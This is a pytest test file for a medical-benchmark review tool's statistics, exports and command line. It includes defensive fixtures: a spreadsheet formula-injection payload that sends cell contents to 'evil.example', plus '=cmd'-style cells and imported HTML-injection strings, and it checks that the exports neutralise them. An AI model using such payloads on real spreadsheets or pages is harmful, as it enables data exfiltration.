"""`medres review stats` and the review commands: pass rates and the rubric-A composite with
bootstrap intervals, the worst-case rate with a Wilson interval, agreement on dual-rated units
(the numbers equal stats' coefficients on the same pairs), agreement with the automatic labels,
the CSV / Parquet / JSON / HTML outputs, and the command line (sample, add-reviewer, revoke,
stats) with its one-line errors."""

from __future__ import annotations

import json
import re
from collections import defaultdict
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from conftest import REVIEWERS, rate_all, rubric_a_values
from medresilience import stats
from medresilience.cli import app
from medresilience.review import ReviewDB, sample_review
from medresilience.review.rubrics import get_rubric
from medresilience.review.stats import compute, write
from test_review_app import ONERROR, TEXTAREA, hostile_suite, make_run


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    root = tmp_path_factory.mktemp("review-stats")
    suite = hostile_suite(root / "suite")
    return {"suite": suite, "run": make_run(root, suite)}


def _review(data, tmp, rubric: str, n: int = 100, dual: float = 0.7):
    out = tmp / f"review-{rubric}"
    sample_review(rubric, data["suite"], out, run_dir=data["run"] if rubric == "B" else None, n=n, dual=dual, reviewers=list(REVIEWERS), seed=5)
    return out


def _fill(path, chooser, *, skip_every: int = 0):
    """Rate every task with chooser(task, unit_index, hidden) -> values, every fifth unit flagged
    outdated, with hostile comments; every `skip_every`-th task is skipped ("later")."""
    skipped = lambda n: bool(skip_every) and n % skip_every == 0  # noqa: E731
    rate_all(
        path,
        chooser,
        flags=lambda i: ["outdated"] if i % 5 == 0 else [],
        comment=lambda n: "later" if skipped(n) else f"{TEXTAREA} {ONERROR}",
        skip=skipped,
    )


def test_rubric_a_pass_rates_composite_and_agreement(data, tmp_path):
    path = _review(data, tmp_path, "A")
    _fill(path, rubric_a_values, skip_every=7)
    res = compute(path, n_resamples=500, seed=1)
    rated = res.ratings[res.ratings["status"] == "rated"]
    assert len(rated) == int((res.ratings["status"] != "skipped").sum())
    # pass rate of a dimension: per-unit share of passing ratings, averaged over units, bootstrap CI
    for d in get_rubric("A").dimensions:
        per_unit = defaultdict(list)
        for uid, v in zip(rated["unit_id"], rated[d.key]):
            per_unit[uid].append(1.0 if v in d.passing else 0.0)
        expected = np.mean([np.mean(v) for v in per_unit.values()])
        row = res.pass_rates.set_index("dimension").loc[d.key]
        assert row["rate"] == pytest.approx(expected) and row["units"] == len(per_unit)
        if 0 < expected < 1:
            assert row["lo"] < row["rate"] < row["hi"]
    assert res.pass_rates.set_index("dimension").loc["answer_preservation", "rate"] == 1.0
    # composite: mean of the five 0-2 dimensions per rating, per unit, over units
    comp = rated.groupby("unit_id")["composite"].mean().mean()
    assert res.composite["mean"] == pytest.approx(comp) and res.composite["lo"] < comp < res.composite["hi"]
    assert res.worst_case is None  # rubric A has none
    # agreement on the dual-rated units equals stats' coefficients on the same (first, second) pairs
    dual = rated.groupby("unit_id").filter(lambda g: len(g) == 2).sort_values(["unit_id", "slot"])
    pairs = [[int(a), int(b)] for a, b in zip(dual[dual["slot"] == 0]["falsehood_clarity"], dual[dual["slot"] == 1]["falsehood_clarity"])]
    assert len(pairs) >= 10
    every = res.agreement[res.agreement["dimension"] == "falsehood_clarity"]
    ag = every[every["coefficient"] != "cohen_kappa"].set_index("coefficient")
    assert (ag["reviewers"] == "all").all()
    assert ag.loc["percent_agreement", "value"] == pytest.approx(stats.percent_agreement(pairs, categories=[0, 1, 2]))
    # reviewers rotate: Cohen's kappa is per pair of reviewers, on the units both rated, never "slot 0 vs slot 1"
    kappa = every[every["coefficient"] == "cohen_kappa"].set_index("reviewers")
    by_unit = {uid: dict(zip(g["reviewer"], g["falsehood_clarity"])) for uid, g in dual.groupby("unit_id")}
    expected = {}
    for a, b in [("alice", "bob"), ("alice", "carol"), ("bob", "carol")]:
        shared = [(int(r[a]), int(r[b])) for r in by_unit.values() if a in r and b in r]
        if shared:
            expected[f"{a} / {b}"] = (stats.cohen_kappa(*zip(*shared), categories=[0, 1, 2]), len(shared))
    assert len(expected) >= 2 and set(kappa.index) == set(expected)
    for pair, (value, n) in expected.items():
        assert kappa.loc[pair, "units"] == n
        assert (kappa.loc[pair, "value"] is None and value is None) or kappa.loc[pair, "value"] == pytest.approx(value)
    assert sum(n for _, n in expected.values()) == len(pairs)
    assert ag.loc["gwet_ac1", "value"] == pytest.approx(stats.gwet_ac1(pairs, categories=[0, 1, 2]))
    assert ag.loc["gwet_ac2", "value"] == pytest.approx(stats.gwet_ac2(pairs, weights="ordinal", categories=[0, 1, 2]))
    assert ag.loc["krippendorff_alpha", "value"] == pytest.approx(stats.krippendorff_alpha(pairs, level="ordinal", categories=[0, 1, 2]))
    assert ag.loc["fleiss_kappa", "units"] == len(pairs)
    assert ag.loc["gwet_ac1", "lo"] <= ag.loc["gwet_ac1", "value"] <= ag.loc["gwet_ac1", "hi"]
    # full agreement where both reviewers always agree
    same = res.agreement[res.agreement["dimension"] == "answer_preservation"].set_index("coefficient")
    assert same.loc["percent_agreement", "value"] == 1.0 and same.loc["gwet_ac1", "value"] == 1.0
    assert "gwet_ac2" not in set(res.agreement[res.agreement["dimension"] == "disposition"]["coefficient"])  # nominal
    flags = res.flags.set_index("flag")
    assert flags.loc["outdated", "ratings"] > 0 and flags.loc["gold_incorrect", "ratings"] == 0


def test_rubric_b_worst_case_and_agreement_with_the_automatic_labels(data, tmp_path):
    path = _review(data, tmp_path, "B", n=40)
    flipped = set()

    def chooser(t, i, hidden):
        answer = hidden["auto_correct"]
        if i in (0, 1) and t.slot == 0:  # two ratings disagree with the automatic scorer
            answer = "incorrect" if answer == "correct" else "correct"
            flipped.add(t.task_id)
        worst = i % 5 == 0 and answer == "incorrect"
        return {"final_answer": answer, "injection_uptake": "2" if worst else "0", "clinical_grounding": "2", "harm": "3" if worst else "0"}

    _fill(path, chooser)
    res = compute(path, n_resamples=300)
    rated = res.ratings[res.ratings["status"] == "rated"]
    auto = res.auto.iloc[0]
    assert auto["n"] == len(rated) and auto["agree"] == len(rated) - len(flipped)
    w = stats.wilson(len(rated) - len(flipped), len(rated))
    assert (auto["rate"], auto["lo"], auto["hi"]) == pytest.approx((w.p, w.lo, w.hi))
    assert auto["cohen_kappa"] is not None and auto["cohen_kappa"] < 1
    # worst case: a unit any reviewer rated wrong + material uptake + serious harm; Wilson over units
    per_unit = rated.groupby("unit_id")["worst_case"].any()
    assert per_unit.sum() > 0
    wc = stats.wilson(int(per_unit.sum()), int(per_unit.size))
    assert (res.worst_case["k"], res.worst_case["n"], res.worst_case["lo"], res.worst_case["hi"]) == pytest.approx((wc.k, wc.n, wc.lo, wc.hi))
    assert res.worst_case["per_rating"]["k"] == int(rated["worst_case"].sum())
    # blinded facts are in the analysis tables (for the analyst), never shown in the app
    assert set(rated["hidden_model"]) == {"model-a", "model-b"}


def test_outputs_csv_parquet_json_and_html(data, tmp_path):
    path = _review(data, tmp_path, "A", n=16)
    _fill(path, rubric_a_values)
    res = compute(path, n_resamples=200)
    paths = write(res, tmp_path / "out")
    for name in ("ratings", "pass_rates", "agreement", "auto_agreement", "progress", "flags"):
        csv = pd.read_csv(paths[f"{name}.csv"])
        pq = pd.read_parquet(paths[f"{name}.parquet"])
        assert len(csv) == len(pq) == len(getattr(res, {"auto_agreement": "auto"}.get(name, name)))
    ratings = pd.read_parquet(paths["ratings.parquet"])
    assert {"task_id", "unit_id", "reviewer", "slot", "status", "base_validity", "composite", "stratum_content_type"} <= set(ratings.columns)
    assert (ratings["comment"] == f"{TEXTAREA} {ONERROR}").all()
    summary = json.loads(paths["summary.json"].read_text())
    assert summary["rubric"] == "A" and summary["counts"]["rated"] == len(ratings) and "secret_key" not in json.dumps(summary)
    html = paths["review_stats.html"].read_text()
    assert "<script" not in html.lower() and "default-src 'none'" in html
    for heading in ("Pass rates", "Agreement between reviewers", "Reviewers", "Composite", "Gwet&#x27;s AC1"):
        assert heading in html
    assert "secret" not in html


def test_stats_before_any_rating_says_so(data, tmp_path):
    path = _review(data, tmp_path, "A", n=6, dual=0.5)
    res = compute(path, n_resamples=100)
    assert res.pass_rates["rate"].isna().all() and res.composite["mean"] is None
    assert any("no unit has two ratings" in n for n in res.notes)
    write(res, tmp_path / "empty")


# --------------------------------------------------------------------------- the command line


def test_review_commands(data, tmp_path):
    runner = CliRunner()
    out = tmp_path / "cli-review"
    r = runner.invoke(
        app,
        [
            "review",
            "sample",
            "--rubric",
            "A",
            "--suite",
            str(data["suite"]),
            "--n",
            "12",
            "--dual",
            "0.5",
            "--reviewers",
            "alice,bob",
            "--seed",
            "3",
            "--strata",
            "source,content_type",
            "--out",
            str(out),
        ],
    )
    assert r.exit_code == 0, r.output
    assert "12 of 32 units sampled, 6 rated twice" in r.output
    again = runner.invoke(app, ["review", "sample", "--rubric", "A", "--suite", str(data["suite"]), "--reviewers", "x", "--out", str(out)])
    assert again.exit_code == 2 and "already exists" in again.output and "Traceback" not in again.output
    r = runner.invoke(app, ["review", "add-reviewer", str(out), "alice"])
    assert r.exit_code == 0
    password = re.search(r"password (\S+)", r.output).group(1)
    with ReviewDB(out) as db:
        assert db.check_password("alice", password) is not None
    assert runner.invoke(app, ["review", "add-reviewer", str(out), "alice"]).exit_code == 2
    r = runner.invoke(app, ["review", "revoke", str(out), "alice"])
    assert r.exit_code == 0 and "revoked" in r.output
    with ReviewDB(out) as db:
        assert db.check_password("alice", password) is None
    r = runner.invoke(app, ["review", "revoke", str(out), "zed"])
    assert r.exit_code == 2 and "no reviewer 'zed'" in r.output
    r = runner.invoke(app, ["review", "stats", str(out), "--resamples", "100"])
    assert r.exit_code == 0, r.output
    assert "pass rates" in r.output and (out / "stats" / "review_stats.html").exists() and (out / "stats" / "ratings.parquet").exists()
    bad = runner.invoke(app, ["review", "stats", str(tmp_path / "nothing")])
    assert bad.exit_code == 2 and "not a review database" in bad.output
    r = runner.invoke(app, ["review", "sample", "--rubric", "Z", "--suite", str(data["suite"]), "--reviewers", "a", "--out", str(tmp_path / "z")])
    assert r.exit_code != 0 and "unknown rubric" in r.output
    assert runner.invoke(app, ["review", "serve", str(out), "--port", "0"]).exit_code == 2


def _noise_suite(directory):
    from medresilience.families.noise.probe import NoiseProbe
    from medresilience.records import Item, SuiteManifest
    from medresilience.suite import Suite

    items, probes = [], []
    for i in range(12):
        case = f"A {40 + i}-year-old presents with chest pain {ONERROR}. Troponin is raised."
        items.append(Item(id=f"c{i}", source="cases" if i % 2 else "cases2", question=case, options={"A": "MI", "B": "GERD"}, answer="A"))
        probes.append(
            NoiseProbe(
                id=f"c{i}:rewrite",
                item_id=f"c{i}",
                condition="rewrite",
                parts={"text": f"Pt {40 + i}yo, CP, trop up. {TEXTAREA}"},
                facets={"perturbation": "rewrite", "dose": None, "placement": None},
            )
        )
    Suite(SuiteManifest(name="noise-mini", family="noise"), items, probes).save(directory)
    return directory


def test_premise_and_noise_rubrics_sample_rate_and_count_not_applicable_apart(data, tmp_path):
    noise = _noise_suite(tmp_path / "noise-suite")
    out = tmp_path / "noise-review"
    sample_review("noise", noise, out, n=12, dual=0.5, reviewers=["alice", "bob"], seed=1, strata=["source", "perturbation"])
    with ReviewDB(out) as db:
        units = db.units()
        shown = json.dumps([u.display for u in units.values()])
        assert "Original case" in shown and "Perturbed case" in shown
        for r in ("alice", "bob"):
            for t in db.tasks_for(r):
                i = list(units).index(t.unit_id)
                db.submit(t.task_id, r, "rated", {"redherring_significant": "na", "rewrite_equivalent": "yes" if i % 3 else "no"}, [], "")
    res = compute(out, n_resamples=200)
    rates = res.pass_rates.set_index("dimension")
    assert rates.loc["redherring_significant", "units"] == 0 and pd.isna(rates.loc["redherring_significant", "rate"])
    assert rates.loc["rewrite_equivalent", "rate"] == pytest.approx(8 / 12)
    ag = res.agreement.set_index(["dimension", "coefficient"])
    assert ag.loc[("rewrite_equivalent", "percent_agreement"), "value"] == 1.0
    assert ag.loc[("redherring_significant", "gwet_ac1"), "units"] == 0  # not applicable: no agreement to measure

    out = tmp_path / "premise-review"
    sample_review("premise", data["suite"], out, n=10, reviewers=["alice"], seed=1, strata=["source"])
    with ReviewDB(out) as db:
        assert all(any(b["title"] == "Reference correction" for b in u.display) for u in db.units().values())
        for t in db.tasks_for("alice"):
            db.submit(t.task_id, "alice", "rated", {"false_presupposition": "no", "correction_sound": "na", "outcome": "nfp"}, [], "")
    res = compute(out, n_resamples=100)
    rates = res.pass_rates.set_index("dimension")
    assert rates.loc["false_presupposition", "rate"] == 0.0 and rates.loc["outcome", "units"] == 10


def test_a_run_store_is_not_taken_for_a_review(data):
    from medresilience.runtime.errors import InputError

    with pytest.raises(InputError, match="not a review database"):
        ReviewDB(data["run"] / "store.sqlite")
    with pytest.raises(InputError, match="not a review database"):
        ReviewDB(data["run"])


def test_the_reviewers_counted_are_those_who_rated(data, tmp_path):
    """Three reviewers assigned, two of them rated: the page and the command say 2 (of 3)."""
    path = _review(data, tmp_path, "A", n=30, dual=0.5)
    with ReviewDB(path) as db:
        for r in REVIEWERS[:2]:
            for t in db.tasks_for(r):
                assert db.submit(t.task_id, r, "rated", rubric_a_values(t, 0, {}), [], "")
        assert db.tasks_for(REVIEWERS[2])  # carol was assigned tasks and rated none
    res = compute(path, n_resamples=50, seed=1)
    c = res.summary()["counts"]
    assert (c["reviewers"], c["reviewers_rated"]) == (3, 2)
    from medresilience.review.stats import html_page

    assert "by 2 reviewers (of 3 assigned)" in html_page(res)
    r = CliRunner().invoke(app, ["review", "stats", str(path), "--resamples", "50", "--out", str(tmp_path / "st")])
    assert r.exit_code == 0, r.output
    assert "by 2 of 3 assigned reviewers" in r.output


runner = CliRunner()


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def _cells(path: Path) -> list[list[str]]:
    import csv

    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _review_with_formulas(tmp_path: Path) -> Path:
    """A review whose comments, unit ids and strata hold what a spreadsheet would run."""
    import csv

    from medresilience.review.exchange import import_ratings

    src = tmp_path / "typed.csv"
    with open(src, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["rater", "unit", "item", "dimension", "value", "stratum_model"])
        w.writerow(["ann", "@u1", "q1", "false_presupposition", "yes", "=cmd"])
        w.writerow(["ann", "@u1", "q1", "comment", FORMULA, "=cmd"])
        w.writerow(["ann", "u2", "+q2", "false_presupposition", "no", "-0.5"])
        w.writerow(["ann", "u2", "+q2", "comment", "''=already quoted", "-0.5"])  # read by the rule: '=already quoted
        w.writerow(["bob", "u2", "+q2", "comment", "-0.5", "-0.5"])
    import_ratings(src, "premise", tmp_path / "review")
    return tmp_path / "review"


def test_review_stats_ratings_csv_neutralises_formulas(tmp_path):
    review = _review_with_formulas(tmp_path)
    r = runner.invoke(app, ["review", "stats", str(review), "--out", str(tmp_path / "stats"), "--resamples", "50"])
    assert r.exit_code == 0, r.output
    rows = _cells(tmp_path / "stats" / "ratings.csv")
    header, body = rows[0], rows[1:]
    comments = [row[header.index("comment")] for row in body]
    assert "'" + FORMULA in comments and "''=already quoted" in comments and "-0.5" in comments
    assert "'=cmd" in [row[header.index("stratum_model")] for row in body]
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "@")], rows
